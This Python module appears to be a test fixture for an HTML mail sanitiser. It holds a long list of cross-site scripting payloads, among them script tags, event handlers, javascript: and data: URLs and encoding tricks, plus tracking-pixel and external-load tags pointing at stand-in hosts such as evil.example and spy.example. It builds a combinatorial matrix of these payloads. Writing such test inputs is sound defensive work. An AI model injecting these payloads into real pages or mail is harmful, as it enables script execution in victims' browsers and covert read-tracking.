"""What mails carry to run in somebody's browser, or to learn that they were read."""

from __future__ import annotations

XSS = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mtext></p><style><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>", "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>", "<a href='\x01javascript:1'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>", "<a href='data:text/html,<script>1</script>'>x</a>", "<a href=vbscript:1>x</a>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=//evil.example>",
    "<embed src=//evil.example>", "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>", "<style>@import '//evil.example'</style>", "<form action=//evil.example><input>",
    "<div style='background:url(//evil.example)'>x</div>", "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;top:0;color:red'>x</div>", "<p style='color:r\\65 d;behavior:url(x)'>x</p>",
    "<img src='http://spy.example/1.gif'>", "<img src=//spy.example/1.gif>", "<img srcset='//spy.example 2x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>", "<body background=//spy.example onload=alert(1)>",
    "<table background=//spy.example><tr><td background=//spy.example>x", "<video poster=//spy.example src=//spy.example>",
    "<input type=image src=//spy.example>", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>1</script>]]>",
    "</pre></details></article><script>alert(1)</script>", "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>", "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>", "<title></title><script>alert(1)</script>", "<a id=x name=y class=z>x</a>",
    "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<p/onclick=alert(1)>x</p>",
    "<img src=`x` onerror=alert(1)>", "<a href='http://a.example' target=_blank ping=//spy.example>x</a>", "<<script>alert(1)//<</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u2028<script>alert(1)</script>", "<scr\0ipt>alert(1)</scr\0ipt>", "&lt;script&gt;alert(1)&lt;/script&gt;",
)  # fmt: skip

_HOSTS = (
    "img src=x", "svg", "video src=x", "audio src=x", "body", "input autofocus", "select autofocus", "textarea autofocus",
    "details open", "marquee", "iframe src=x", "object data=x", "math", "style", "link rel=stylesheet href=x", "a href=#x",
    "p contenteditable", "custom-tag tabindex=0",
)  # fmt: skip
_EVENTS = (
    "onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onstart", "onpointerenter", "onanimationstart",
)  # fmt: skip
_WAYS_OUT = (
    '"', "'", "`", "-->", "</title>", "</style>", "</script>", "</textarea>", "</noscript>", "]]>", "*/", '\\"', '"/>', "</li></ul>",
    "</span>",
)  # fmt: skip
_THEN = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", " autofocus onfocus=alert(1) x=")
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "javascript://https://a.example/%0aalert(1)",
    "https://a.example/\"onmouseover=alert(1) x=\"", "https://a.example/'><img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "[x](javascript:alert(1))", "![x](x \"onerror=alert(1)\")",
)  # fmt: skip
MATRIX = tuple(
    dict.fromkeys(
        (
            *XSS,
            *(f"<{host} {event}=alert(1)>" for host in _HOSTS for event in _EVENTS),
            *(f"{out}{then}" for out in _WAYS_OUT for then in _THEN),
            *_SCHEMES,
        )
    )
)
"""What anybody writes into any field that somebody else reads in a browser."""
